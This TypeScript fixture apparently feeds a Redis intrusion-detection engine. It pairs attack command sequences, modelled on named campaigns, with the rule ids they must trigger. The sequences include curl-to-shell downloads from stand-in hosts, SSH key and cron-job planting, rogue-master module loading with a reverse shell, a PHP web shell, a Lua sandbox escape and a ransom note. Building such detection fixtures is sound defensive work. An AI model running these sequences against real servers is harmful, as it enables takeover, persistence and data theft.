/** What a visit sends, and what the rules must say of it. Hosts and keys are made up; the shapes are real. */
export interface Play {
  readonly name: string;
  readonly commands: readonly (readonly string[])[];
  /** Ids of the rules that must hold, among others. */
  readonly rules: readonly string[];
  readonly campaign?: string;
}

const MASTER = '203.0.113.9';
const SSH_KEY = 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQC7vbqajDhA root@example.invalid';
const DOWNLOAD = Buffer.from(`curl -fsSL http://${MASTER}/a.sh | sh`).toString('base64');
const LOADER = `bash -c "exec 6<>/dev/tcp/${MASTER}/60114 && echo -n 'GET /linux' >&6 && cat 0<&6 > /tmp/AbCdEfGhIj && chmod +x /tmp/AbCdEfGhIj && /tmp/AbCdEfGhIj ${DOWNLOAD}"`;
const LUA_ESCAPE =
  'local l = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io"); local io = l(); local f = io.popen("id", "r"); return f:read("*a")';
const cron = (minute: number, rest: string): string => `\n\n\n*/${minute} * * * * ${rest}\n\n`;

export const PLAYS: readonly Play[] = [
  {
    name: 'crackit-ssh',
    commands: [
      ['FLUSHALL'],
      ['SET', 'crackit', `\n\n\n${SSH_KEY}\n\n\n`],
      ['CONFIG', 'SET', 'dir', '/root/.ssh/'],
      ['CONFIG', 'SET', 'dbfilename', 'authorized_keys'],
      ['SAVE'],
    ],
    rules: [
      'redis.wipe',
      'redis.wipe-and-plant',
      'redis.ssh-key-value',
      'redis.dump-to-ssh',
      'redis.saved-to-ssh',
    ],
    campaign: 'crackit-ssh',
  },
  {
    name: 'useradd-cron',
    commands: [
      ['SET', 'user1', '*/1 * * * * root /usr/sbin/useradd -o -u 0 -g 0 syss'],
      ['SET', 'user2', '*/1 * * * * root echo x | passwd --stdin syss'],
      ['CONFIG', 'SET', 'dir', '/etc/cron.d'],
      ['BGSAVE'],
    ],
    rules: ['redis.cron-command', 'redis.dump-to-cron', 'redis.saved-to-cron'],
    campaign: 'useradd-cron',
  },
  {
    name: 'rediswannamine',
    commands: [
      ['SET', 'trojan1', cron(1, `curl -fsSL http://${MASTER}/x | bash`)],
      [
        'SET',
        'Backup3',
        '\t\n*/10 * * * * lynx -source https://files.example.invalid/a > .cmd && bash .cmd\n\t',
      ],
      ['CONFIG', 'SET', 'dir', '/var/spool/cron'],
      ['CONFIG', 'SET', 'dbfilename', 'root'],
      ['SAVE'],
    ],
    rules: [
      'redis.cron-download',
      'redis.dump-to-cron',
      'redis.dump-named-as-system-file',
      'redis.saved-to-cron',
    ],
    campaign: 'rediswannamine',
  },
  {
    name: 'pnscan-backup',
    commands: [
      ['info'],
      ['config', 'set', 'dbfilename', 'backup.db'],
      ['save'],
      ['config', 'set', 'stop-writes-on-bgsave-error', 'no'],
      ['flushall'],
      ['set', 'backup1', cron(2, `cd1 -fsSL http://${MASTER}/b2f628/b.sh | sh`)],
      ['set', 'backup2', cron(3, `wget -q -O- http://${MASTER}/b2f628/b.sh | sh`)],
      ['set', 'backup3', cron(4, `root echo ${DOWNLOAD} | base64 -d | bash | bash`)],
      [
        'set',
        'backup4',
        `\n@hourly  python -c "import urllib2; print urllib2.urlopen('http://f\\i\\l\\e\\s.example.invalid/t').read()" >.1;chmod +x .1;./.1\n`,
      ],
      ['config', 'set', 'dir', '/var/spool/cron/'],
      ['config', 'set', 'dbfilename', 'root'],
      ['save'],
      ['config', 'set', 'dir', '/etc/cron.d/'],
      ['config', 'set', 'dbfilename', 'zzh'],
      ['save'],
    ],
    rules: [
      'redis.server-questions',
      'redis.protection-off',
      'redis.dump-redirected',
      'redis.wipe-and-plant',
      'redis.cron-download',
      'redis.hidden-command',
      'redis.saved-to-cron',
    ],
    campaign: 'pnscan-backup',
  },
  {
    name: 'kinsing-h2miner',
    commands: [
      ['SLAVEOF', MASTER, '8886'],
      ['CONFIG', 'SET', 'dbfilename', 'red2.so'],
      ['MODULE', 'LOAD', './red2.so'],
      ['SLAVEOF', 'NO', 'ONE'],
      ['system.exec', `curl http://${MASTER}/unk.sh | sh`],
    ],
    rules: [
      'redis.visitor-replicates',
      'redis.rogue-master-port',
      'redis.rogue-master-run',
      'redis.dump-named-as-code',
      'redis.module-load',
      'redis.module-command',
      'redis.traces-removed',
      'redis.download-and-run',
    ],
    campaign: 'kinsing-h2miner',
  },
  {
    name: 'p2pinfect by its module',
    commands: [
      ['info', 'server'],
      ['CONFIG', 'SET', 'dir', '.'],
      ['CONFIG', 'SET', 'dbfilename', 'dump.rdb'],
      ['CONFIG', 'SET', 'dir', '/tmp/'],
      ['CONFIG', 'SET', 'dbfilename', 'exp.so'],
      ['SLAVEOF', MASTER, '60114'],
      ['MODULE', 'LOAD', '/tmp/exp.so'],
      ['SLAVEOF', 'NO', 'ONE'],
      ['system.exec', LOADER],
      ['system.exec', 'rm -rf /tmp/exp.so'],
      ['MODULE', 'UNLOAD', 'system'],
    ],
    rules: [
      'redis.rogue-master-port',
      'redis.rogue-master-run',
      'redis.module-command',
      'redis.module-hostile',
      'redis.traces-removed',
      'redis.download-and-run',
      'redis.dump-to-scratch',
    ],
    campaign: 'p2pinfect',
  },
  {
    name: 'the file-write stage of p2pinfect',
    commands: [
      ['FLUSHDB'],
      ['SLAVEOF', 'NO', 'ONE'],
      ['SET', 'x', `\n\n${SSH_KEY}\n\n`],
      ['CONFIG', 'SET', 'dir', '/root/.ssh'],
      ['CONFIG', 'SET', 'rdbcompression', 'no'],
      ['SAVE'],
      ['CONFIG', 'SET', 'rdbcompression', 'yes'],
    ],
    rules: ['redis.wipe-and-plant', 'redis.uncompressed-save', 'redis.saved-to-ssh', 'redis.dump-redirected'],
  },
  {
    name: 'migo',
    commands: [
      ['config', 'set', 'protected-mode', 'no'],
      ['config', 'set', 'replica-read-only', 'no'],
      ['config', 'set', 'aof-rewrite-incremental-fsync', 'no'],
      ['config', 'set', 'rdb-save-incremental-fsync', 'no'],
      ['set', 'mimigo', cron(5, `root curl -fsSL http://${MASTER}/m | sh`)],
    ],
    rules: ['redis.defences-lowered', 'redis.protection-off', 'redis.cron-download'],
    campaign: 'migo',
  },
  {
    name: 'skidmap',
    commands: [
      [
        'SET',
        'a',
        Buffer.from(cron(10, 'root curl -fsSL http://a.powerofwish.com/pm.sh | sh')).toString('base64'),
      ],
      ['CONFIG', 'SET', 'dir', '/var/spool/cron'],
      ['SAVE'],
    ],
    rules: ['redis.cron-download', 'redis.saved-to-cron'],
    campaign: 'skidmap',
  },
  {
    name: 'headcrab',
    commands: [
      ['SLAVEOF', MASTER, '6379'],
      ['MODULE', 'LOAD', '/var/lib/redis/dump.rdb'],
      ['SLAVEOF', 'NO', 'ONE'],
      ['rdsa', 'x'],
    ],
    rules: ['redis.rogue-master-run', 'redis.module-load', 'redis.traces-removed', 'redis.module-command'],
    campaign: 'headcrab',
  },
  {
    name: 'the public rogue-master tools, as redigo uses them',
    commands: [
      ['INFO'],
      ['CONFIG', 'SET', 'dbfilename', 'exp_lin.so'],
      ['SLAVEOF', MASTER, '21000'],
      ['MODULE', 'LOAD', './exp_lin.so'],
      ['SLAVEOF', 'NO', 'ONE'],
      ['system.rev', MASTER, '4444'],
    ],
    rules: [
      'redis.rogue-master-run',
      'redis.module-command',
      'redis.reverse-shell',
      'redis.dump-named-as-code',
    ],
    campaign: 'rogue-master-toolkit',
  },
  {
    name: 'muhstik',
    commands: [['EVAL', LUA_ESCAPE, '0']],
    rules: ['redis.lua-escape'],
    campaign: 'lua-escape-wave',
  },
  {
    name: 'a Lua memory exploit',
    commands: [['EVAL', "for i = 1, 9 do loadstring(string.rep('x', i)) collectgarbage() end", '0']],
    rules: ['redis.lua-memory'],
  },
  {
    name: 'teamtnt',
    commands: [
      ['SET', 'a', cron(2, `root curl http://${MASTER}/COVID19/init.sh | sh`)],
      ['CONFIG', 'SET', 'dir', '/etc/cron.d'],
      ['SAVE'],
    ],
    rules: ['redis.cron-download', 'redis.saved-to-cron'],
    campaign: 'teamtnt',
  },
  {
    name: 'linux-lady-ddg',
    commands: [['SET', 'a', cron(5, `curl -fsSL http://${MASTER}:8443/i.sh | sh`)]],
    rules: ['redis.cron-download'],
    campaign: 'linux-lady-ddg',
  },
  {
    name: 'windows-redis',
    commands: [
      ['SET', 'x', "\n\n<?php @eval($_POST['x']); ?>\n\n"],
      ['CONFIG', 'SET', 'dir', 'C:\\phpStudy\\PHPTutorial\\WWW'],
      ['CONFIG', 'SET', 'dbfilename', 'x.php'],
      ['SAVE'],
    ],
    rules: ['redis.web-shell', 'redis.dump-to-web', 'redis.dump-named-as-code', 'redis.saved-to-system'],
    campaign: 'windows-web-shell',
  },
  {
    name: 'other-file-targets',
    commands: [
      ['SET', 'x', '\n\ntoor::0:0::/root:/bin/bash\n\n'],
      ['CONFIG', 'SET', 'dir', '/etc'],
      ['CONFIG', 'SET', 'dbfilename', 'passwd'],
      ['SAVE'],
      ['CONFIG', 'SET', 'dbfilename', 'ld.so.preload'],
      ['SAVE'],
    ],
    rules: [
      'redis.account-line',
      'redis.dump-to-system',
      'redis.dump-named-as-system-file',
      'redis.saved-to-system',
    ],
  },
  {
    name: 'wipe-and-ransom',
    commands: [
      ['FLUSHALL'],
      [
        'SET',
        'README',
        'Your data is backed up. To recover your database pay 0.015 BTC to the address below.',
      ],
    ],
    rules: ['redis.wipe', 'redis.ransom-note', 'redis.wipe-and-note'],
    campaign: 'wipe-and-ransom',
  },
  {
    name: 'the locking out of 2015',
    commands: [
      ['CONFIG', 'SET', 'requirepass', 'x'],
      ['CONFIG', 'REWRITE'],
    ],
    rules: ['redis.locked-out', 'redis.config-rewrite'],
  },
  {
    name: 'a user that stays',
    commands: [['ACL', 'SETUSER', 'svc', 'on', '>x', '~*', '+@all']],
    rules: ['redis.user-added'],
  },
  {
    name: 'data-theft',
    commands: [
      ['KEYS', '*'],
      ['MIGRATE', MASTER, '6379', 'session', '0', '5000'],
      ['PSYNC', '?', '-1'],
    ],
    rules: ['redis.key-listing', 'redis.keys-carried-off', 'redis.replica-pull'],
  },
  {
    name: 'a shutdown',
    commands: [['SHUTDOWN', 'NOSAVE']],
    rules: ['redis.shutdown'],
  },
];

export const SCANS: readonly Play[] = [
  {
    name: 'a scanner that sends INFO',
    commands: [['info'], ['PING'], ['QUIT']],
    rules: ['redis.server-questions'],
  },
  {
    name: 'zgrab2',
    commands: [['PING'], ['INFO'], ['NONEXISTENT'], ['QUIT']],
    rules: ['redis.scanner-named', 'redis.server-questions'],
  },
  {
    name: 'a probe that names its target',
    commands: [['MGLNDD_192.0.2.1_6379']],
    rules: ['redis.scanner-named'],
  },
  {
    name: 'a look at keys and folder',
    commands: [['KEYS', '*'], ['CONFIG', 'GET', 'dir'], ['DBSIZE'], ['CLIENT', 'LIST']],
    rules: ['redis.key-listing', 'redis.write-place-questions', 'redis.server-questions'],
  },
  {
    name: 'a client library that only connects',
    commands: [
      ['HELLO', '3'],
      ['CLIENT', 'SETINFO', 'LIB-NAME', 'redis-py'],
      ['PING'],
      ['SET', 'a', '1'],
      ['GET', 'a'],
    ],
    rules: [],
  },
];
